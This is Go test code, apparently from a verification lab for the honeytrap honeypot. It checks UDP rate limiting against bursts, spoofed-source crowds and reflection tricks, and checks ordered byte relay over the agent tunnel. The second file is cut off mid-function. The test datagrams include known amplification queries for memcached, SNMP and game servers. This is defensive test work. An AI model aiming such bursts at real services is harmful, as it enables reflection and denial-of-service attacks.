func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C10" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = one rate-limited UDP service (tftp, memcached, snmp, counterstrike), a burst of 1..200 datagrams from source IP A over varying source ports (mixed grammar requests incl. multi-command memcached datagrams, or reply-eliciting requests only), delivered sequentially or from 200 concurrent goroutines, optionally interleaved with bursts from 1..2 other IPs; fresh IPs per scenario. Non-trivial = >=1 reply datagram captured; distinct by (service, scenario parameters, sha of A's first datagram). One scenario in thirty puts a crowd of 300..5000 single-datagram sources in the middle of A's burst of 24 reply-eliciting requests. Reflect scenarios: after its first datagrams a source sends 60 more built from the replies it got (the last four bytes of a reply appended to a request, a reply echoed whole)."
}
func (prop) Assumptions() []string {
	return []string{"a scenario lasts far less than the 10-minute refill (scenarios longer than 2 min are inconclusive)", "'at most four' is checked on every scenario; 'others do not use up A's allowance' is checked on bursts made of reply-eliciting requests only, where A must still receive min(n,4) replies"}
}

var svcs = []struct {
	Type string
	Port int
}{{"tftp", 69}, {"memcached", 11211}, {"snmp", 161}, {"counterstrike", 27015}}

type scenario struct {
	Svc        int
	N          int  // datagrams from A
	Eliciting  bool // only reply-eliciting requests
	Concurrent bool
	Others     int // other IPs
	OtherN     int
	Ports      int // number of distinct source ports used by A
	// Crowd: this many further sources send one datagram each in the middle of A's burst (spoofable UDP
	// sources are free): whatever the service does to bound its bookkeeping, A's allowance must not come back
	Crowd int
	// Reflect: after its first datagrams the source builds 60 more from what it was sent back (the last four bytes
	// of a reply appended to a request, a reply echoed whole, ...): whatever the service hands out, it is no ticket
	// past the allowance
	Reflect bool
}

func mkScenario(seed int64, idx int) scenario {
	r := core.NewRng(seed, "C10", idx)
	sc := scenario{Svc: idx % len(svcs)}
	sc.N = r.PickI([]int{1, 2, 3, 4, 5, 6, 8, 20, 50, 200})
	sc.Eliciting = r.Bool()
	sc.Concurrent = r.Chance(1, 3)
	if r.Bool() {
		sc.Others = r.Range(1, 2)
		sc.OtherN = r.PickI([]int{1, 4, 5, 20, 100})
	}
	sc.Ports = r.PickI([]int{1, 2, sc.N})
	if idx%30 == 29 {
		sc.N, sc.Eliciting, sc.Concurrent, sc.Others, sc.OtherN = 24, true, false, 0, 0
		sc.Ports = r.PickI([]int{1, 24})
		sc.Crowd = r.PickI([]int{300, 1100, 2500, 5000})
	}
	if idx%21 == 13 {
		sc = scenario{Svc: sc.Svc, N: 3, Eliciting: false, Ports: 3, Reflect: true}
	}
	return sc
}

func eliciting(svc int, r *core.Rng) []byte {
	switch svcs[svc].Type {
	case "tftp":
		return gen.TFTPPacket(r.PickI([]int{1, 2}), r.Alnum(5), "octet")
	case "memcached":
		return append([]byte{0, 1, 0, 0, 0, 1, 0, 0}, []byte(r.PickS([]string{"stats\r\n", "get k\r\n", "flush_all\r\n", "version\r\n"}))...)
	case "snmp":
		return gen.SNMPPacket(0, "public", byte(r.PickI([]int{0xa0, 0xa1})), r.Intn(1000), gen.BER(0x06, []byte{0x2b, 6, 1, 2, 1, 1, 1, 0}))
	default:
		return append([]byte{0xff, 0xff, 0xff, 0xff, 0x54}, []byte("Source Engine Query\x00")...)
	}
}

func mixed(svc int, r *core.Rng) []byte {
	var d [][]byte
	switch svcs[svc].Type {
	case "tftp":
		d = gen.TFTPDialogue(r)
	case "memcached":
		d = gen.MemcachedUDP(r)
	case "snmp":
		d = gen.SNMPDialogue(r)
	default:
		d = gen.CounterstrikeDialogue(r)
	}
	return d[r.Intn(len(d))]
}

type dgram struct {
	IP      string
	Port    int
	Payload []byte
}

// plan returns the datagrams of a scenario in delivery order.
func plan(seed int64, idx int, sc scenario) []dgram {
	r := core.NewRng(seed, "C10/dg", idx)
	ipA := fmt.Sprintf("198.%d.%d.%d", 18+idx>>16&1, (idx>>8)&255, idx&255)
	var a []dgram
	for i := 0; i < sc.N; i++ {
		var pl []byte
		if sc.Reflect && svcs[sc.Svc].Type != "counterstrike" {
			pl = eliciting(sc.Svc, r)
		} else if sc.Reflect {
			// every query type once, the challenge request first
			pl = [][]byte{{0xff, 0xff, 0xff, 0xff, 0x57}, {0xff, 0xff, 0xff, 0xff, 0x55, 0xff, 0xff, 0xff, 0xff}, append([]byte{0xff, 0xff, 0xff, 0xff, 0x54}, []byte("Source Engine Query\x00")...)}[i%3]
		} else if sc.Eliciting {
			pl = eliciting(sc.Svc, r)
		} else {
			pl = mixed(sc.Svc, r)
		}
		a = append(a, dgram{ipA, 20000 + i%sc.Ports, pl})
	}
	var others [][]dgram
	for o := 0; o < sc.Others; o++ {
		ip := fmt.Sprintf("100.%d.%d.%d", 64+o, (idx>>8)&255, idx&255)
		var l []dgram
		for i := 0; i < sc.OtherN; i++ {
			l = append(l, dgram{ip, 30000 + i, eliciting(sc.Svc, r)})
		}
		others = append(others, l)
	}
	if sc.Crowd > 0 {
		out := append([]dgram(nil), a[:len(a)/2]...)
		for i := 0; i < sc.Crowd; i++ {
			out = append(out, dgram{fmt.Sprintf("10.%d.%d.%d", 1+(i>>16)&63, (i>>8)&255, i&255), 30000 + i%1000, eliciting(sc.Svc, r)})
		}
		return append(out, a[len(a)/2:]...)
	}
	// interleave: others' bursts start first, then round-robin
	var out []dgram
	idxs := make([]int, len(others))
	ai := 0
	for ai < len(a) || anyLeft(others, idxs) {
		for o := range others {
			if idxs[o] < len(others[o]) {
				out = append(out, others[o][idxs[o]])
				idxs[o]++
			}
		}
		if ai < len(a) {
			out = append(out, a[ai])
			ai++
		}
	}
	return out
}

func anyLeft(o [][]dgram, idx []int) bool {
	for i := range o {
		if idx[i] < len(o[i]) {
			return true
		}
	}
	return false
}

type scnObs struct {
	Replies map[string]int `json:"replies"` // per source IP
	Bytes   map[string]int `json:"bytes"`
	Sent    map[string]int `json:"sent"`
	WallMs  int64          `json:"wall_ms"`
	IPA     string         `json:"ip_a"`
}

type params struct {
	Offset int `json:"offset"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	n, chunks, raceN := 600, 4, 80
	if tier == "thorough" {
		n, chunks, raceN = 12000, 12, 1200
	}
	var out []core.Batch
	per := n / chunks
	for c := 0; c < chunks; c++ {
		p, _ := json.Marshal(params{Offset: c * per})
		out = append(out, core.Batch{Name: fmt.Sprintf("burst/%d", c), N: per, Params: p, Timeout: 900})
	}
	p, _ := json.Marshal(params{Offset: 1 << 20})
	out = append(out, core.Batch{Name: "burst/race", N: raceN, Params: p, Race: true, Timeout: 900})
	return out
}

func config() string {
	s := "[listener]\ntype=\"lab\"\n[channel.cap0]\ntype=\"lab-capture\"\nid=\"cap0\"\n[[filter]]\nchannel=[\"cap0\"]\n"
	for _, v := range svcs {
		s += fmt.Sprintf("[service.%s]\ntype=%q\n[[port]]\nport=\"udp/%d\"\nservices=[%q]\n", v.Type, v.Type, v.Port, v.Type)
	}
	return s
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	srv, err := lab.Start(config())
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	to := b.To
	if to == 0 {
		to = b.N
	}
	for k := b.From; k < to; k++ {
		idx := p.Offset + k
		sc := mkScenario(b.Seed, idx)
		dgs := plan(b.Seed, idx, sc)
		o.Begin(k)
		t0 := time.Now()
		ob := scnObs{Replies: map[string]int{}, Bytes: map[string]int{}, Sent: map[string]int{}}
		var xs []*lab.UDPExchange
		var mu sync.Mutex
		local := lab.UDPAddr("10.0.0.1", svcs[sc.Svc].Port)
		nsend := 0
		send := func(d dgram) {
			ra := lab.UDPAddr(d.IP, d.Port)
			mu.Lock()
			nsend++
			if sc.N%3 == 2 && nsend%2 == 0 {
				// the same host in the other form of net.IP (4-byte instead of 16-byte): a udp4 socket and a
				// dual-stack socket or an agent deliver one and the same source in different forms
				if v4 := ra.IP.To4(); v4 != nil {
					ra.IP = v4
				}
			}
			mu.Unlock()
			x := srv.L.SendUDP(local, ra, d.Payload)
			mu.Lock()
			xs = append(xs, x)
			ob.Sent[d.IP]++
			mu.Unlock()
		}
		if sc.Concurrent {
			var wg sync.WaitGroup
			for _, d := range dgs {
				wg.Add(1)
				go func(d dgram) { defer wg.Done(); send(d) }(d)
			}
			wg.Wait()
		} else {
			for _, d := range dgs {
				send(d)
			}
		}
		ipA := ""
		if len(dgs) > 0 {
			for _, d := range dgs {
				if d.Port < 30000 {
					ipA = d.IP
				}
			}
		}
		ob.IPA = ipA
		count := func() (map[string]int, map[string]int, int) {
			rc, bc, tot := map[string]int{}, map[string]int{}, 0
			for _, x := range xs {
				for _, r := range x.Snapshot() {
					rc[x.Conn.Raddr.IP.String()]++
					bc[x.Conn.Raddr.IP.String()] += len(r)
					tot++
				}
			}
			return rc, bc, tot
		}
		want := sc.N
		if want > 4 {
			want = 4
		}
		// wait (fast path: returns as soon as satisfied) until A has its expected replies when they are determined, then until stable
		deadline := time.Now().Add(5 * time.Second)
		last, stableSince := -1, time.Now()
		for {
			rc, _, tot := count()
			if tot != last {
				last, stableSince = tot, time.Now()
			}
			enough := !sc.Eliciting || rc[ipA] >= want
			if enough && time.Since(stableSince) > 30*time.Millisecond {
				break
			}
			if time.Now().After(deadline) {
				break
			}
			time.Sleep(time.Millisecond)
		}
		if sc.Reflect {
			var got [][]byte
			for _, x := range xs {
				if x.Conn.Raddr.IP.String() == ipA {
					got = append(got, x.Snapshot()...)
				}
			}
			r := core.NewRng(b.Seed, "C10/reflect", idx)
			for i := 0; i < 60 && len(got) > 0; i++ {
				rep := got[i%len(got)]
				tail := rep
				if len(tail) > 4 {
					tail = tail[len(tail)-4:]
				}
				var pl []byte
				switch i % 4 {
				case 0:
					pl = append(append([]byte{}, dgs[i%len(dgs)].Payload...), tail...)
				case 1:
					pl = append(append([]byte{}, eliciting(sc.Svc, r)...), tail...)
				case 2:
					pl = append([]byte{}, rep...)
				default:
					h := dgs[i%len(dgs)].Payload
					if len(h) > 5 {
						h = h[:5]
					}
					pl = append(append([]byte{}, h...), tail...)
				}
				send(dgram{ipA, 21000 + i, pl})
			}
			last, stableSince = -1, time.Now()
			for time.Since(stableSince) < 40*time.Millisecond && time.Now().Before(deadline.Add(3*time.Second)) {
				if _, _, tot := count(); tot != last {
					last, stableSince = tot, time.Now()
				}
				time.Sleep(time.Millisecond)
			}
		}
		ob.Replies, ob.Bytes, _ = count()
		if sc.Crowd > 0 {
			// keep the record small: A and every source that got more than one reply
			for ip, n := range ob.Replies {
				if ip != ipA && n <= 1 {
					delete(ob.Replies, ip)
					delete(ob.Bytes, ip)
				}
			}
			for ip := range ob.Sent {
				if ip != ipA {
					delete(ob.Sent, ip)
				}
			}
		}
		ob.WallMs = time.Since(t0).Milliseconds()
		o.EmitX("scn", ob)
		o.End(k)
	}
}

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	var out []core.Result
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "scn":
			var ob scnObs
			if r.XInto(&ob) != nil {
				continue
			}
			idx := p.Offset + r.K
			sc := mkScenario(b.Seed, idx)
			svc := svcs[sc.Svc].Type
			res := core.Result{K: r.K, Verdict: core.Held}
			if ob.WallMs > 120000 {
				res.Verdict = core.Inconclusive
				res.What = "scenario took longer than 2 min"
				out = append(out, res)
				continue
			}
			tot := 0
			for _, n := range ob.Replies {
				tot += n
			}
			if tot > 0 {
				res.Key = fmt.Sprintf("%s|n%d|e%v|c%v|o%dx%d|p%d|crowd%d|%d", svc, sc.N, sc.Eliciting, sc.Concurrent, sc.Others, sc.OtherN, sc.Ports, sc.Crowd, idx)
				res.Sample = map[string]interface{}{"service": svc, "datagrams_from_A": sc.N, "reply_eliciting_only": sc.Eliciting, "concurrent": sc.Concurrent, "other_ips": sc.Others, "datagrams_per_other_ip": sc.OtherN, "source_ports_A": sc.Ports, "crowd_of_single_datagram_sources_in_the_middle": sc.Crowd, "replies_per_ip": ob.Replies, "reply_bytes_per_ip": ob.Bytes}
			}
			for ip, n := range ob.Replies {
				if n > 4 {
					res.Verdict = core.Violated
					res.Sig = "C10|" + svc + "|more-than-burst"
					if sc.Crowd > 0 {
						res.Sig += "|after-a-crowd-of-other-sources"
					}
					res.What = fmt.Sprintf("source %s received %d reply datagrams (%d bytes) for %d requests within one scenario; the limiter's burst is 4", ip, n, ob.Bytes[ip], ob.Sent[ip])
					res.Witness = map[string]interface{}{"scenario": sc, "observed": ob, "index": idx}
				}
			}
			if res.Verdict == core.Held && sc.Eliciting {
				want := sc.N
				if want > 4 {
					want = 4
				}
				if got := ob.Replies[ob.IPA]; got < want {
					res.Verdict = core.Violated
					res.Sig = "C10|" + svc + "|allowance-used-up-by-others"
					if sc.Others == 0 {
						res.Sig = "C10|" + svc + "|allowance-not-granted"
					}
					res.What = fmt.Sprintf("source %s sent %d reply-eliciting requests and received %d replies, expected %d; %d other source(s) were sending %d requests each", ob.IPA, sc.N, got, want, sc.Others, sc.OtherN)
					res.Witness = map[string]interface{}{"scenario": sc, "observed": ob, "index": idx}
				}
			}
			out = append(out, res)
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s)", e.Class, e.Frame)})
		}
	}
	return out
}
