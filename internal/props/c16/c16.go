// Package c16: the agent tunnel relays each remote connection's bytes in
// order, to it alone. A scripted agent speaks the real Disco (Noise_NK)
// transport to the real agent listener inside server.Run; a byte-recording,
// echoing stub service sits on the announced ports. Stamped payloads make the
// history unambiguous: per connection, what the service read and what came
// back to the agent must be the announced concatenation, exactly once, in
// order, with that connection's addresses.
package c16

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"net"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/listener/agent"
	"github.com/mimoo/disco/libdisco"

	"verif/htlab/internal/core"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C16" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = one agent session over the real Disco transport carrying 1..4 multiplexed virtual connections (hello, 0..20 data messages of 0..4000 stamped bytes, eof), all interleavings of the per-connection sequences for 2x4 messages (70) and (thorough) 3x3 (1680), seeded interleavings beyond, UDP relay messages, unknown and duplicate connection ids, agent disconnect mid-stream, and a seeded subset in which the yield point parks the service's reader between its buffer check and its wait while data and EOF arrive; plus codec round trips of every message type against an independent encoder/decoder (IPv4/IPv6, all 65,536 ports, payload lengths 0..65000). Non-trivial = a session in which >=1 virtual connection delivered bytes to the service; distinct by scenario parameters. Also connections that share one remote ip:port and differ in the local port (same-remote). One seeded scenario in six opens a shadow session: a second agent on the same listener announces the same address pair as the judged session's first connection and sends data of its own. 16 (thorough 120) scenarios address a second stub service that leaves a 5 ms write deadline behind at the start and after every write: their end-of-stream messages, or the agent's disconnect, arrive after those deadlines have passed. udp-late-replies: 2-4 datagrams from distinct peers sent back to back to a service that answers 40 ms late; every datagram that comes back must carry the addresses of the datagram whose content it answers. large-service-write: the service answers the first bytes with one single Write of 65536, 70000 or 200000 bytes, which must come back complete and in order. reannounced-address-pair: connection 0 is announced and ended by the agent, and once its service has seen the end the same address pair is announced again (port reuse) with data and an end-of-stream of its own, next to a second connection. late-data-after-service-close: the service ends connection 0 itself after its first bytes; once the agent has its EOF it sends two more data messages for it and goes on with connection 1."
}
func (prop) Assumptions() []string {
	return []string{"the scripted agent frames messages exactly as the real agent does (type, length, body as three writes)", "termination is judged on content after the connection ended: a service-side EOF before all announced bytes were delivered is the loss witness"}
}

// ---- independent codec -------------------------------------------------------------------

func encAddr(b []byte, proto byte, ip net.IP, port int) []byte {
	b = append(b, proto)
	b = binary.LittleEndian.AppendUint16(b, uint16(len(ip)))
	b = append(b, ip...)
	return binary.LittleEndian.AppendUint16(b, uint16(port))
}

func encData(b, d []byte) []byte {
	b = binary.LittleEndian.AppendUint16(b, uint16(len(d)))
	return append(b, d...)
}

type waddr struct {
	Proto byte
	IP    net.IP
	Port  int
}

func (a waddr) String() string { return fmt.Sprintf("%d/%s:%d", a.Proto, a.IP, a.Port) }

func decAddr(b []byte) (waddr, []byte, bool) {
	if len(b) < 3 {
		return waddr{}, nil, false
	}
	l := int(binary.LittleEndian.Uint16(b[1:]))
	if len(b) < 3+l+2 {
		return waddr{}, nil, false
	}
	return waddr{b[0], net.IP(append([]byte(nil), b[3:3+l]...)), int(binary.LittleEndian.Uint16(b[3+l:]))}, b[3+l+2:], true
}

func decData(b []byte) ([]byte, []byte, bool) {
	if len(b) < 2 {
		return nil, nil, false
	}
	l := int(binary.LittleEndian.Uint16(b))
	if len(b) < 2+l {
		return nil, nil, false
	}
	return b[2 : 2+l], b[2+l:], true
}

const (
	tHello = 0
	tRWTCP = 1
	tHS    = 2
	tHSR   = 3
	tEOF   = 4
	tPing  = 5
	tRWUDP = 6
)

// ---- scripted agent ------------------------------------------------------------------------

type agentConn struct {
	c  net.Conn
	mu sync.Mutex
}

func (a *agentConn) send(typ byte, body []byte) error {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.c.SetWriteDeadline(time.Now().Add(5 * time.Second))
	if _, err := a.c.Write([]byte{typ}); err != nil {
		return err
	}
	if _, err := a.c.Write(binary.LittleEndian.AppendUint16(nil, uint16(len(body)))); err != nil {
		return err
	}
	if len(body) == 0 {
		// the real agent writes an empty body too; an empty Write sends nothing on this transport
		return nil
	}
	_, err := a.c.Write(body)
	return err
}

func readFull(c net.Conn, n int) ([]byte, error) {
	b := make([]byte, n)
	got := 0
	for got < n {
		m, err := c.Read(b[got:])
		got += m
		if err != nil {
			return b[:got], err
		}
	}
	return b, nil
}

type frame struct {
	Typ  byte
	Body []byte
}

func (a *agentConn) recv() (frame, error) {
	h, err := readFull(a.c, 3)
	if err != nil {
		return frame{}, err
	}
	n := int(binary.LittleEndian.Uint16(h[1:]))
	body, err := readFull(a.c, n)
	return frame{h[0], body}, err
}

// ---- scenarios -----------------------------------------------------------------------------

type msg struct {
	Conn int    `json:"conn"`
	Kind string `json:"kind"` // hello | data | eof | udp | unknown-data | unknown-eof | dup-hello | ping
	Len  int    `json:"len,omitempty"`
}

type scenario struct {
	Conns      int   `json:"conns"`
	Msgs       []msg `json:"msgs"`
	Disconnect bool  `json:"disconnect"` // agent drops the session instead of sending the remaining EOFs
	Park       bool  `json:"park"`
	V6         bool  `json:"v6"`
	// SameRemote: the virtual connections share one remote ip:port (a scanner with a fixed source port)
	// and differ in the local port only
	SameRemote bool `json:"same_remote,omitempty"`
	// Shadow: a second agent session on the same listener announces a connection with the same address pair as
	// this session's first one (two sensors behind different NATs hit by one scanner) and sends data of its own
	Shadow bool `json:"shadow_session,omitempty"`
	// Deadline: the connections go to a service that leaves a short write deadline behind after every write (and
	// at the start); the deadline has passed when the end-of-stream messages (or the disconnect) arrive
	Deadline bool `json:"expired_write_deadline,omitempty"`
	// SlowUDP: the datagrams go to a service that answers 40 ms late - after the next datagrams of other peers
	// have arrived on the session
	SlowUDP bool `json:"slow_udp,omitempty"`
	// Blob > 0: the connections go to a service that answers the first bytes with one single Write of that many
	// bytes (70000 or 200000: more than one agent protocol frame can carry)
	Blob int    `json:"service_writes_at_once,omitempty"`
	Kind string `json:"kind"`
}

func interleavings(counts []int) [][]int {
	var out [][]int
	var rec func(cur []int, left []int)
	rec = func(cur []int, left []int) {
		done := true
		for i, l := range left {
			if l > 0 {
				done = false
				left[i]--
				rec(append(cur, i), left)
				left[i]++
			}
		}
		if done {
			out = append(out, append([]int(nil), cur...))
		}
	}
	rec(nil, append([]int(nil), counts...))
	return out
}

func scenarios(tier string, seed int64) []scenario {
	var out []scenario
	build := func(order []int, per [][]msg, kind string) scenario {
		sc := scenario{Conns: len(per), Kind: kind}
		idx := make([]int, len(per))
		for _, c := range order {
			sc.Msgs = append(sc.Msgs, per[c][idx[c]])
			idx[c]++
		}
		return sc
	}
	seq4 := func(c int) []msg {
		return []msg{{c, "hello", 0}, {c, "data", 7 + c}, {c, "data", 300}, {c, "eof", 0}}
	}
	for _, o := range interleavings([]int{4, 4}) {
		out = append(out, build(o, [][]msg{seq4(0), seq4(1)}, "interleave-2x4"))
	}
	if tier == "thorough" {
		seq3 := func(c int) []msg { return []msg{{c, "hello", 0}, {c, "data", 50 + c}, {c, "eof", 0}} }
		for _, o := range interleavings([]int{3, 3, 3}) {
			out = append(out, build(o, [][]msg{seq3(0), seq3(1), seq3(2)}, "interleave-3x3"))
		}
	}
	// the same interleavings with one remote ip:port for both connections (they differ in the local port)
	for i, o := range interleavings([]int{4, 4}) {
		if i%2 == 0 || tier == "thorough" {
			sc := build(o, [][]msg{seq4(0), seq4(1)}, "interleave-2x4-same-remote")
			sc.SameRemote = true
			out = append(out, sc)
		}
	}
	n := 200
	if tier == "thorough" {
		n = 8000
	}
	for i := 0; i < n; i++ {
		r := core.NewRng(seed, "C16", i)
		nc := r.Range(1, 4)
		var per [][]msg
		var counts []int
		for c := 0; c < nc; c++ {
			s := []msg{{c, "hello", 0}}
			for j := r.Range(0, 20); j > 0; j-- {
				s = append(s, msg{c, "data", r.PickI([]int{0, 1, 2, 17, 100, 1000, 3999, 4000, 4097, 9000, 60000})})
			}
			s = append(s, msg{c, "eof", 0})
			per = append(per, s)
			counts = append(counts, len(s))
		}
		var order []int
		left := append([]int(nil), counts...)
		for {
			var cand []int
			for c, l := range left {
				if l > 0 {
					cand = append(cand, c)
				}
			}
			if len(cand) == 0 {
				break
			}
			c := cand[r.Intn(len(cand))]
			order = append(order, c)
			left[c]--
		}
		sc := build(order, per, fmt.Sprintf("seeded-%dconn", nc))
		sc.V6 = r.Chance(1, 5)
		if r.Chance(1, 6) {
			sc.SameRemote = true
			sc.Kind += "-same-remote"
		} else if r.Chance(1, 5) {
			sc.Shadow = true
			sc.Kind += "-shadow-session"
		}
		// sprinkle control messages that must not disturb anything
		if r.Chance(1, 3) {
			extra := []msg{{9, "unknown-data", 10}, {9, "unknown-eof", 0}, {0, "ping", 0}, {8, "udp", r.PickI([]int{0, 5, 500})}}
			at := r.Intn(len(sc.Msgs) + 1)
			sc.Msgs = append(sc.Msgs[:at:at], append([]msg{extra[r.Intn(len(extra))]}, sc.Msgs[at:]...)...)
		}
		if r.Chance(1, 6) {
			// the agent goes away mid-stream: drop the tail of the script
			sc.Disconnect = true
			sc.Msgs = sc.Msgs[:r.Range(1, len(sc.Msgs))]
			sc.Kind += "+disconnect"
		}
		out = append(out, sc)
	}
	nd := 16
	if tier == "thorough" {
		nd = 120
	}
	for i := 0; i < nd; i++ {
		r := core.NewRng(seed, "C16/deadline", i)
		nc := r.Range(1, 4)
		var per [][]msg
		var order []int
		for c := 0; c < nc; c++ {
			s := []msg{{c, "hello", 0}}
			for j := r.Range(0, 3); j > 0; j-- {
				s = append(s, msg{c, "data", r.PickI([]int{1, 17, 1000, 4000})})
			}
			per = append(per, s)
			for range s {
				order = append(order, c)
			}
		}
		for a := len(order) - 1; a > 0; a-- {
			b := r.Intn(a + 1)
			order[a], order[b] = order[b], order[a]
		}
		for c := 0; c < nc; c++ { // the EOFs come last, after the deadlines have passed
			per[c] = append(per[c], msg{c, "eof", 0})
			order = append(order, c)
		}
		sc := build(order, per, fmt.Sprintf("expired-write-deadline-%dconn", nc))
		sc.Deadline = true
		if i%4 == 3 {
			sc.Disconnect = true
			sc.Msgs = sc.Msgs[:len(sc.Msgs)-nc+r.Intn(nc)]
			sc.Kind += "+disconnect"
		}
		out = append(out, sc)
	}
	// the service ends connection 0 itself after its first bytes; once the agent has been told, a data message for
	// it that was still on its way arrives. Connection 1 (and the session) must not notice
	nl := 6
	if tier == "thorough" {
		nl = 60
	}
	for i := 0; i < nl; i++ {
		sc := scenario{Conns: 2, Kind: "late-data-after-service-close"}
		sc.Msgs = []msg{{0, "hello", 0}, {1, "hello", 0}, {1, "data", 10 + i}, {0, "data", 20 + i}, {0, "wait-eof", 0}, {0, "late-data", 30}, {0, "late-data", 0}, {1, "data", 100 + i}, {1, "eof", 0}}
		if i%2 == 1 {
			sc.Msgs = append(sc.Msgs[:7:7], msg{0, "eof", 0}, msg{1, "data", 100 + i}, msg{1, "eof", 0})
		}
		out = append(out, sc)
	}
	// port reuse: connection 0 is announced, ended by the agent (with or without bytes of another connection in
	// between) and, once its service has seen the end, announced again with the same address pair; the bytes that
	// follow belong to the new connection, and so does the end-of-stream message after them
	nr := 8
	if tier == "thorough" {
		nr = 80
	}
	for i := 0; i < nr; i++ {
		sc := scenario{Conns: 2, Kind: "reannounced-address-pair", SameRemote: i%4 >= 2}
		sc.Msgs = []msg{{0, "pre-hello", 0}, {1, "hello", 0}, {1, "data", 10 + i}}
		if i%2 == 1 {
			sc.Msgs = []msg{{1, "hello", 0}, {1, "data", 10 + i}, {0, "pre-hello", 0}}
		}
		sc.Msgs = append(sc.Msgs, msg{0, "pre-eof", 0}, msg{0, "hello", 0}, msg{0, "data", 20 + i}, msg{1, "data", 30 + i}, msg{0, "data", 1 + i%3*1000})
		if i%3 == 0 {
			sc.Msgs = append(sc.Msgs, msg{0, "eof", 0}, msg{1, "data", 40 + i}, msg{1, "eof", 0})
		} else {
			sc.Msgs = append(sc.Msgs, msg{1, "eof", 0}, msg{0, "eof", 0})
		}
		out = append(out, sc)
	}
	nb := 6
	if tier == "thorough" {
		nb = 40
	}
	for i := 0; i < nb; i++ {
		sc := scenario{Conns: 1 + i%2, Kind: "large-service-write", Blob: []int{70000, 200000, 65536}[i%3]}
		for c := 0; c < sc.Conns; c++ {
			sc.Msgs = append(sc.Msgs, msg{c, "hello", 0}, msg{c, "data", 10 + i})
		}
		for c := 0; c < sc.Conns; c++ {
			sc.Msgs = append(sc.Msgs, msg{c, "eof", 0})
		}
		out = append(out, sc)
	}
	nu := 12
	if tier == "thorough" {
		nu = 100
	}
	for i := 0; i < nu; i++ {
		r := core.NewRng(seed, "C16/slowudp", i)
		sc := scenario{Conns: 0, Kind: "udp-late-replies", SlowUDP: true}
		for c := r.Range(2, 4) - 1; c >= 0; c-- {
			sc.Msgs = append(sc.Msgs, msg{c, "udp", r.PickI([]int{12, 40, 500})})
		}
		out = append(out, sc)
	}
	np := 12
	if tier == "thorough" {
		np = 150
	}
	for i := 0; i < np; i++ {
		r := core.NewRng(seed, "C16/park", i)
		out = append(out, scenario{Conns: 1, Park: true, Kind: "parked-reader", Msgs: []msg{{0, "hello", 0}, {0, "data", r.PickI([]int{1, 20, 4000})}, {0, "eof", 0}}})
	}
	return out
}

func stampPayload(k, c, seq, n int) []byte {
	h := []byte(fmt.Sprintf("(%d.%d.%d)", k, c, seq))
	if n <= len(h) {
		return h[:n]
	}
	b := make([]byte, n)
	copy(b, h)
	for i := len(h); i < n; i++ {
		b[i] = byte('a' + (i+seq)%26)
	}
	return b
}

// ---- child -------------------------------------------------------------------------------

type connObs struct {
	Announced string `json:"announced"` // local|remote as sent
	Calls     int    `json:"calls"`
	Local     string `json:"local"`
	Remote    string `json:"remote"`
	ReadLen   int    `json:"read_len"`
	ReadOK    bool   `json:"read_ok"`  // service read == concatenation announced
	Done      bool   `json:"done"`     // service saw EOF
	EchoLen   int    `json:"echo_len"` // bytes that came back to the agent for this connection
	EchoOK    bool   `json:"echo_ok"`
	WantLen   int    `json:"want_len"`
	EOFSent   bool   `json:"eof_sent"`
	GotEOF    bool   `json:"got_eof_frame"`
	Diff      string `json:"diff,omitempty"`
}

type scnObs struct {
	Conns               []connObs `json:"conns"`
	Foreign             []string  `json:"foreign,omitempty"` // frames tagged with addresses of no announced connection / wrong kind
	UDPEcho             int       `json:"udp_echo"`
	UDPSent             int       `json:"udp_sent"`
	Parked              int64     `json:"parked"`
	Err                 string    `json:"err,omitempty"`
	DoneAfterDisconnect bool      `json:"done_after_disconnect"`
}

var parkGate atomic.Value
var parkHits int64

func init() {
	lab.OnYield("agent.read.prewait", func() {
		if g, ok := parkGate.Load().(chan struct{}); ok && g != nil {
			atomic.AddInt64(&parkHits, 1)
			<-g
		}
	})
}

// addrOfSc is addrOf for a scenario: with SameRemote the connections differ in the local port instead of
// the remote one.
func addrOfSc(sc scenario, k, c int, udp bool) (local, remote waddr) {
	l, r := addrOf(k, c, sc.V6, udp)
	if sc.Deadline && !udp {
		l.Port = 8026
	}
	if strings.HasPrefix(sc.Kind, "late-data-after-service-close") && c == 0 && !udp {
		l.Port = 8031
	}
	if sc.Blob > 0 && !udp {
		l.Port = map[int]int{70000: 8027, 200000: 8028, 65536: 8029}[sc.Blob]
	}
	if sc.SlowUDP && udp {
		l.Port = 8054
		r.Port = 31000 + c
		r.IP = net.IPv4(100, 71, byte(k), byte(c+1))
	}
	if sc.SameRemote && !udp && c < 70 {
		l.Port = 8022 + c
		r.Port = 30000
	}
	return l, r
}

func addrOf(k, c int, v6, udp bool) (local, remote waddr) {
	lip, rip := net.ParseIP("10.1.1.1"), net.IPv4(100, 70, byte(k>>8), byte(k))
	if v6 {
		lip, rip = net.ParseIP("fd00::1"), net.ParseIP(fmt.Sprintf("fd00::%x:%x", k&0xffff, c+1))
	}
	proto := byte(6)
	port := 8022
	if udp {
		proto, port = 17, 8053
	}
	return waddr{proto, lip, port}, waddr{proto, rip, 30000 + c}
}

func runScenario(k int, sc scenario, listen string, key []byte) scnObs {
	var ob scnObs
	lab.Stubs.Reset()
	var gate chan struct{}
	if sc.Park {
		gate = make(chan struct{})
		atomic.StoreInt64(&parkHits, 0)
		parkGate.Store(gate)
		defer parkGate.Store((chan struct{})(nil))
	}
	c, err := libdisco.Dial("tcp", listen, &libdisco.Config{HandshakePattern: libdisco.Noise_NK, RemoteKey: key})
	if err != nil {
